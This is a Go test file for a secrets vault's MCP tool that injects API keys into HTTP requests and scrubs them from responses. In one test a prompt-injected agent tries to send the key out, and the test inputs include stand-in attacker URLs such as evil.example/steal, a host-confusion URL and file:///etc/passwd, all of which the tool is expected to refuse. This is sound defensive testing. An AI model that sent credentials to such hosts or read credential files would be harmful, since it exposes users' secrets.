package mcpserve

import (
	"context"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tresor-dev/tresor/access"
	"github.com/tresor-dev/tresor/broker"
)

// names resolves a few test names to loopback; everything else fails.
type names map[string]string

func (n names) LookupNetIP(_ context.Context, _ string, host string) ([]netip.Addr, error) {
	if a, ok := n[host]; ok {
		return []netip.Addr{netip.MustParseAddr(a)}, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

// upstream is a TLS API on loopback that echoes what it was sent,
// including the credential in several encodings (a hostile or careless API).
type upstream struct {
	*httptest.Server
	mu   sync.Mutex
	auth []string
	hits int
}

func newUpstream(t *testing.T) *upstream {
	u := &upstream{}
	u.Server = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u.mu.Lock()
		u.hits++
		u.auth = append(u.auth, r.Header.Get("Authorization"))
		u.mu.Unlock()
		switch r.URL.Path {
		case "/redirect":
			http.Redirect(w, r, "https://evil.example/steal", http.StatusFound)
			return
		case "/token":
			r.ParseForm()
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"access_token":"sk-test-FAKEaccess2","refresh_token":"sk-test-FAKErefresh2","expires_in":3600,"token_type":"bearer"}`)
			return
		}
		key := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		w.Header().Set("X-Echo", key)
		fmt.Fprintf(w, "raw=%s b64=%s url=%s", key, base64.StdEncoding.EncodeToString([]byte(key)), url.QueryEscape(key))
	}))
	t.Cleanup(u.Close)
	return u
}

func (u *upstream) origin() string { return u.URL } // https://127.0.0.1:PORT

func brokerFor(u *upstream) *broker.Broker {
	pool := x509.NewCertPool()
	pool.AddCert(u.Certificate())
	return broker.New(broker.Options{RootCAs: pool, Resolver: names{"internal.test": "127.0.0.1"}, Timeout: 10 * time.Second})
}

func TestHTTPRequestInjectsAndScrubs(t *testing.T) {
	u := newUpstream(t)
	f := newFixture(t)
	const key = "sk-test-FAKEbrokered00000000000000000000"
	f.put("global/api", "api_key", map[string]string{"value": key}, map[string][]string{"hosts": {u.origin()}})
	f.put("global/internal", "api_key", map[string]string{"value": key}, map[string][]string{"hosts": {"internal.test"}})
	f.put("global/trap", "api_key", map[string]string{"value": key, "canary": "true"}, map[string][]string{"hosts": {u.origin()}})
	f.start(Options{Broker: brokerFor(u)})
	cs := f.connect(f.client("agent", []string{"global"}, false, false), nil)
	listOnly := f.connect(f.client("lister", []string{"global"}, false, false), nil)
	f.reg.Revoke("lister", time.Now())

	res := call(t, cs, ToolHTTP, map[string]any{"credential": "api", "method": "GET", "url": u.origin() + "/v1/me"})
	out := ok[HTTPOut](t, res)
	b, _ := json.Marshal(res)
	for _, form := range []string{key, base64.StdEncoding.EncodeToString([]byte(key)), url.QueryEscape(key)} {
		if strings.Contains(string(b), form) {
			t.Fatalf("result holds a form of the secret: %s", b)
		}
	}
	if out.Status != 200 || out.Redacted < 3 {
		t.Fatalf("status %d redacted %d", out.Status, out.Redacted)
	}
	if u.auth[0] != "Bearer "+key {
		t.Fatal("the vault did not inject the key")
	}
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(u.origin(), "https://"))
	var logged bool
	for _, r := range f.records("agent") {
		if r.Op == ToolHTTP && r.Result == access.ResultOK && r.Detail == "127.0.0.1:"+port && r.FP != "" {
			logged = true
		}
	}
	if !logged {
		t.Fatalf("http_request not logged with its host: %+v", f.records("agent"))
	}

	// A prompt-injected agent tries to send the key elsewhere.
	hits := u.hits
	for _, bad := range []string{"https://evil.example/x", "http://" + strings.TrimPrefix(u.origin(), "https://") + "/x",
		"https://127.0.0.1:1/x", "https://evil.example@127.0.0.1:" + port + ".evil.example/", "file:///etc/passwd"} {
		res := call(t, cs, ToolHTTP, map[string]any{"credential": "api", "method": "GET", "url": bad})
		refused(t, res)
		if strings.Contains(text(res), key) {
			t.Fatal("refusal holds the key")
		}
	}
	// Headers that would carry or redirect the credential are refused.
	refused(t, call(t, cs, ToolHTTP, map[string]any{"credential": "api", "method": "GET", "url": u.origin() + "/", "headers": map[string]string{"Authorization": "Bearer mine"}}))
	if u.hits != hits {
		t.Fatal("a refused request reached the upstream")
	}
	var denied int
	for _, r := range f.records("agent") {
		if r.Op == ToolHTTP && r.Result == access.ResultDenied {
			denied++
		}
	}
	if denied < 5 {
		t.Fatalf("refused destinations logged as denied: %d", denied)
	}

	// Redirects come back, not followed.
	out = ok[HTTPOut](t, call(t, cs, ToolHTTP, map[string]any{"credential": "api", "method": "GET", "url": u.origin() + "/redirect"}))
	if out.Status != http.StatusFound || !strings.Contains(out.Headers["Location"], "evil.example") {
		t.Fatalf("redirect: %+v", out)
	}
	// A name that resolves to a private address is refused unless listed as such.
	refused(t, call(t, cs, ToolHTTP, map[string]any{"credential": "internal", "method": "GET", "url": "https://internal.test/"}))

	// Canary: works as usual, logged as an alert.
	ok[HTTPOut](t, call(t, cs, ToolHTTP, map[string]any{"credential": "trap", "method": "GET", "url": u.origin() + "/"}))
	var alert bool
	for _, r := range f.records("agent") {
		if r.Ref == "global/trap" && r.Result == access.ResultAlert {
			alert = true
		}
	}
	if !alert {
		t.Fatal("canary use not logged as an alert")
	}
	// Without a use grant (revoked here) nothing is sent.
	refused(t, call(t, listOnly, ToolHTTP, map[string]any{"credential": "api", "method": "GET", "url": u.origin() + "/"}), "revoked")
}

func TestHTTPRequestRefreshesExpiredOAuth(t *testing.T) {
	u := newUpstream(t)
	f := newFixture(t)
	f.put("global/svc", "oauth", map[string]string{
		"client_id": "tresor-test", "client_secret": "sk-test-FAKEclientsecret", "refresh_token": "sk-test-FAKErefresh1",
		"access_token": "sk-test-FAKEaccess1", "token_url": u.origin() + "/token", "expires_at": "2020-01-01T00:00:00Z",
	}, map[string][]string{"hosts": {u.origin()}})
	f.start(Options{Broker: brokerFor(u)})
	cs := f.connect(f.client("agent", []string{"global"}, false, false), nil)
	out := ok[HTTPOut](t, call(t, cs, ToolHTTP, map[string]any{"credential": "svc", "method": "GET", "url": u.origin() + "/v1/me"}))
	if out.Status != 200 {
		t.Fatalf("status %d", out.Status)
	}
	if last := u.auth[len(u.auth)-1]; last != "Bearer sk-test-FAKEaccess2" {
		t.Fatalf("api call did not use the refreshed token: %q", last)
	}
	msg := f.lastCommit()
	for _, want := range []string{"Tresor-Op: rotate", "Tresor-Entry: global/svc", "Tresor-Client: agent", "Tresor-Value-Changed: yes"} {
		if !strings.Contains(msg, want) {
			t.Fatalf("refresh commit lacks %q:\n%s", want, msg)
		}
	}
	if strings.Contains(msg, "FAKE") {
		t.Fatal("commit message holds a token")
	}
	l, err := f.v.Load(mustRef(t, "global/svc"), f.kr)
	if err != nil {
		t.Fatal(err)
	}
	if l.Entry.Fields["refresh_token"] != "sk-test-FAKErefresh2" || l.Entry.Fields["access_token"] != "sk-test-FAKEaccess2" {
		t.Fatal("new tokens not stored")
	}
	// The token is now fresh: a second call does not refresh again.
	n := len(u.auth)
	ok[HTTPOut](t, call(t, cs, ToolHTTP, map[string]any{"credential": "svc", "method": "GET", "url": u.origin() + "/v1/me"}))
	if len(u.auth) != n+1 {
		t.Fatal("refreshed again although the token is fresh")
	}
}
